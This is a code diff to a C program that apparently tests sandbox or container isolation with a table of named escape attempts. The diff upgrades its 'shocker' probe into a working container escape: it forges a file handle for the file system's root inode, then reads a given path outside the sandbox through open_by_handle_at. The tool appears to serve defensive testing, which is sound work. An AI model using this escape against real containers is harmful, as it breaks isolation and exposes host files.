@@ -177,11 +177,17 @@ static int try_mount(void)
 	return report(mount("probe", "/tmp", "tmpfs", 0, NULL));
 }
 
-/* shocker: open_by_handle_at on a handle of "/", the call the shocker exploit needs. */
-static int try_shocker(void)
+/*
+ * shocker [PATH]: open_by_handle_at, the call of the "shocker" exploit. With PATH,
+ * the real thing: a handle of the file system's root directory (ext4 and the like:
+ * inode 2, generation 0), then PATH (relative) opened from there: ESCAPED means a
+ * file outside the sandbox was read.
+ */
+static int try_shocker(char **argv)
 {
 	struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
-	int mount_id, fd;
+	uint32_t root_inode[2] = {2, 0};
+	int mount_id, fd, dir;
 
 	if (!handle)
 		return report(-1);
@@ -191,7 +197,17 @@ static int try_shocker(void)
 	fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
 	if (fd == -1)
 		return report(-1);
-	return report(open_by_handle_at(fd, handle, O_RDONLY | O_CLOEXEC));
+	if (!argv[0])
+		return report(open_by_handle_at(fd, handle, O_RDONLY | O_CLOEXEC));
+	if (handle->handle_type != 1 || handle->handle_bytes != sizeof root_inode) {
+		printf("BLOCKED: not an inode-number file system\n");
+		return 0;
+	}
+	memcpy(handle->f_handle, root_inode, sizeof root_inode);
+	dir = open_by_handle_at(fd, handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	if (dir == -1)
+		return report(-1);
+	return report(openat(dir, argv[0], O_RDONLY | O_CLOEXEC));
 }
 
 static int try_chroot(void)
@@ -236,7 +252,6 @@ static int run_jobctl(char **argv) { (void)argv; return try_jobctl(); }
 static int run_euid(char **argv) { (void)argv; return try_euid(); }
 static int run_kill_all(char **argv) { (void)argv; return try_kill_all(); }
 static int run_mount(char **argv) { (void)argv; return try_mount(); }
-static int run_shocker(char **argv) { (void)argv; return try_shocker(); }
 static int run_chroot(char **argv) { (void)argv; return try_chroot(); }
 static int run_sethostname(char **argv) { (void)argv; return try_sethostname(); }
 static int run_keyring(char **argv) { (void)argv; return try_keyring(); }
@@ -252,7 +267,7 @@ static const struct attack attacks[] = {
 	{"kill-all", 0, run_kill_all},
 	{"chroot-escape", 2, try_chroot_escape},
 	{"mount", 0, run_mount},
-	{"shocker", 0, run_shocker},
+	{"shocker", 0, try_shocker},
 	{"chroot", 0, run_chroot},
 	{"sethostname", 0, run_sethostname},
 	{"mknod", 1, try_mknod},
